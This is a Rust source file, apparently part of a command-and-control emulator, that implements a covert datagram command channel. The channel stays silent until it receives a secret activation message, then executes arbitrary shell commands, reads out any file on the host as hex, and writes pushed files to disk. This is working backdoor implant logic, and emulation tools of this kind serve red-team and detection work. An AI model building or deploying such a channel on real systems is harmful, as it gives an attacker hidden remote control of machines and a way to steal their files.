//! Command Dispatcher
//!
//! Handler for the datagram command channel. The channel stays dormant and
//! silent until it receives the activation secret as a standalone message;
//! from then on every datagram is parsed as `KEY;SUBTYPE;DATA` and routed to
//! command execution or file transfer.
//!
//! | Message                  | Reply                                  |
//! |--------------------------|----------------------------------------|
//! | `<secret>` (first time)  | `ready`                                |
//! | `CMD;detail;<command>`   | captured output                        |
//! | `CMD;<other>;<command>`  | `done` / `error`                       |
//! | `FIO;out;<path>`         | hex of the file, or hex of `error`     |
//! | `FIO;<name>;<hex>`       | `done` / `error` after writing `<name>`|
//! | anything else            | `Not support action.`                  |

pub mod listener;

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};

use tracing::{debug, info, warn};

use c2emu_common::codec;
use c2emu_executor::{DONE, ERROR};

pub const READY: &str = "ready";
pub const UNSUPPORTED: &str = "Not support action.";
pub const CMD_KEY: &str = "CMD";
pub const FIO_KEY: &str = "FIO";
/// `FIO` subtype that reads a file out instead of writing one.
pub const FIO_OUT: &str = "out";

/// One parsed `KEY;SUBTYPE;DATA` message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request<'a> {
    pub key: &'a str,
    pub subtype: &'a str,
    /// Everything after the second delimiter, untouched.
    pub data: &'a str,
}

impl<'a> Request<'a> {
    /// Split on the first two `;`. Key and subtype are trimmed. `None` when
    /// the message has fewer than three fields.
    pub fn parse(message: &'a str) -> Option<Self> {
        let mut fields = message.splitn(3, ';');
        let key = fields.next()?.trim();
        let subtype = fields.next()?.trim();
        let data = fields.next()?;
        Some(Self { key, subtype, data })
    }
}

pub struct CommandDispatcher {
    activation_code: String,
    active: AtomicBool,
    file_dir: PathBuf,
}

impl CommandDispatcher {
    /// `file_dir` receives files pushed with `FIO;<name>;<hex>`.
    pub fn new(activation_code: impl Into<String>, file_dir: impl Into<PathBuf>) -> Self {
        Self {
            activation_code: activation_code.into(),
            active: AtomicBool::new(false),
            file_dir: file_dir.into(),
        }
    }

    pub fn is_active(&self) -> bool {
        self.active.load(Ordering::SeqCst)
    }

    pub fn file_dir(&self) -> &Path {
        &self.file_dir
    }

    /// Handle one datagram. `None` means send nothing back.
    pub fn handle(&self, datagram: &[u8]) -> Option<Vec<u8>> {
        let message = String::from_utf8_lossy(datagram);

        if !self.is_active() {
            if !self.activation_code.is_empty() && *message == *self.activation_code {
                self.active.store(true, Ordering::SeqCst);
                info!("command channel activated");
                return Some(READY.as_bytes().to_vec());
            }
            debug!(bytes = datagram.len(), "dormant, datagram ignored");
            return None;
        }

        let Some(request) = Request::parse(&message) else {
            warn!("malformed command message");
            return Some(UNSUPPORTED.as_bytes().to_vec());
        };

        Some(match request.key {
            CMD_KEY => self.run_command(&request),
            FIO_KEY if request.subtype == FIO_OUT => self.read_out(request.data).into_bytes(),
            FIO_KEY => self.write_in(request.subtype, request.data).as_bytes().to_vec(),
            other => {
                warn!(key = other, "unsupported action");
                UNSUPPORTED.as_bytes().to_vec()
            }
        })
    }

    fn run_command(&self, request: &Request<'_>) -> Vec<u8> {
        info!(mode = request.subtype, "running command");
        c2emu_executor::run(request.subtype, request.data).output
    }

    /// Hex of the file's bytes, or hex of `error` when it cannot be read.
    fn read_out(&self, path: &str) -> String {
        let path = Path::new(path);
        info!("transfer file out: {}", path.display());
        match fs::read(path) {
            Ok(data) => codec::hex_encode(data),
            Err(err) => {
                warn!("cannot read {}: {}", path.display(), err);
                codec::hex_encode(ERROR)
            }
        }
    }

    /// Decode `hex` and write it as `name` under the file directory. Only
    /// the final component of `name` is used.
    fn write_in(&self, name: &str, hex: &str) -> &'static str {
        let Some(file_name) = Path::new(name).file_name() else {
            warn!("invalid file name: {:?}", name);
            return ERROR;
        };
        let data = match codec::hex_decode(hex) {
            Ok(data) => data,
            Err(err) => {
                warn!("bad file payload for {}: {}", name, err);
                return ERROR;
            }
        };
        let target = self.file_dir.join(file_name);
        info!("create file at: {}", target.display());
        match fs::write(&target, data) {
            Ok(()) => DONE,
            Err(err) => {
                warn!("file creation error: {}", err);
                ERROR
            }
        }
    }
}
